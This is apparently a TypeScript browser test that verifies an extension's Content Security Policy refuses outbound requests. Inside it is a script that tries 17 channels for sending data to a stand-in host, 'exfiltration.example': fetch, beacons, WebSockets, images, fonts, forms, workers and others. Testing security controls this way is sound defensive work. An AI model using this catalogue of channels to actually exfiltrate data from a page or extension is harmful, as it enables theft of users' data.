/** Promise 1, by trying: what an extension page and the worker may send is stopped by the CSP before it leaves. */
import type { Page } from 'puppeteer-core';
import { expect } from 'vitest';
import { eachBrowser } from './support/each-browser.ts';
import { consent } from './support/person.ts';
import { until } from './support/until.ts';

const HOST = 'exfiltration.example';
const URL_OUT = `https://${HOST}/out`;

/** Runs in the extension's own world: each way answers `refused`, or how it got out. */
const WAYS = `(async () => {
  const violated = new Set();
  document.addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective));
  const blocked = (directive, act) => new Promise((resolve) => {
    violated.delete(directive);
    try { act(); } catch { resolve('refused'); return; }
    const started = performance.now();
    const look = () => violated.has(directive) ? resolve('refused')
      : performance.now() - started > 5000 ? resolve('not refused') : setTimeout(look, 20);
    look();
  });
  const rejected = (act) => Promise.resolve().then(act).then(() => 'not refused', () => 'refused');
  const add = (tag, fields, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(fields)) element[name] = value;
    parent.append(element);
    return element;
  };
  return {
    fetch: await rejected(() => fetch('${URL_OUT}')),
    fetchNoCors: await rejected(() => fetch('${URL_OUT}', { mode: 'no-cors', method: 'POST', body: 'x' })),
    xhr: await blocked('connect-src', () => { const x = new XMLHttpRequest(); x.open('GET', '${URL_OUT}'); x.send(); }),
    beacon: await blocked('connect-src', () => { navigator.sendBeacon('${URL_OUT}', 'x'); }),
    webSocket: await blocked('connect-src', () => { new WebSocket('wss://${HOST}/out'); }),
    eventSource: await blocked('connect-src', () => { new EventSource('${URL_OUT}'); }),
    img: await blocked('img-src', () => { new Image().src = '${URL_OUT}.png'; }),
    cssUrl: await blocked('img-src', () => { add('div', { textContent: 'x' }).style.backgroundImage = 'url(${URL_OUT}.png)'; }),
    styleSheet: await blocked('style-src-elem', () => { add('link', { rel: 'stylesheet', href: '${URL_OUT}.css' }, document.head); }),
    script: await blocked('script-src-elem', () => { add('script', { src: '${URL_OUT}.js' }); }),
    inlineScript: await blocked('script-src-elem', () => { add('script', { textContent: 'globalThis.ran = true' }); }),
    frame: await blocked('frame-src', () => { add('iframe', { src: '${URL_OUT}' }); }),
    object: await blocked('object-src', () => { add('object', { data: '${URL_OUT}' }); }),
    media: await blocked('media-src', () => { add('video', { src: '${URL_OUT}.mp4' }); }),
    font: await rejected(() => new FontFace('out', 'url(${URL_OUT}.woff2)').load()),
    form: await blocked('form-action', () => { add('form', { action: '${URL_OUT}', method: 'post' }).submit(); }),
    worker: await rejected(() => new Promise((resolve, reject) => {
      const worker = new Worker('${URL_OUT}.js');
      worker.onerror = reject;
      setTimeout(resolve, 5000);
    })),
  };
})()`;

eachBrowser(
  { browsers: ['chromium', 'firefox'], timeoutMs: 240_000 },
  'every way out of an extension page is refused before a host is asked for',
  async ({ browser }) => {
    await consent(browser);
    const page = await browser.extensionPage('journal.html');
    const answers = await tried(page, WAYS);
    expect(answers).toEqual(
      Object.fromEntries(Object.keys(answers).map((way) => [way, 'refused'])),
    );
    expect(Object.keys(answers).length).toBeGreaterThanOrEqual(17);
    expect(browser.refusedHosts()).toEqual([]);
    // The proxy is a witness that can speak: what no CSP closes is seen by it.
    const portalTab = await browser.newPage();
    await portalTab.goto(`https://${HOST}/`).catch(() => undefined);
    await until(() => browser.refusedHosts().includes(HOST), { what: 'the proxy to have seen it' });
  },
);

async function tried(page: Page, ways: string): Promise<Record<string, unknown>> {
  const answers: unknown = await page.evaluate(ways);
  return Object.fromEntries(Object.entries(answers ?? {}));
}
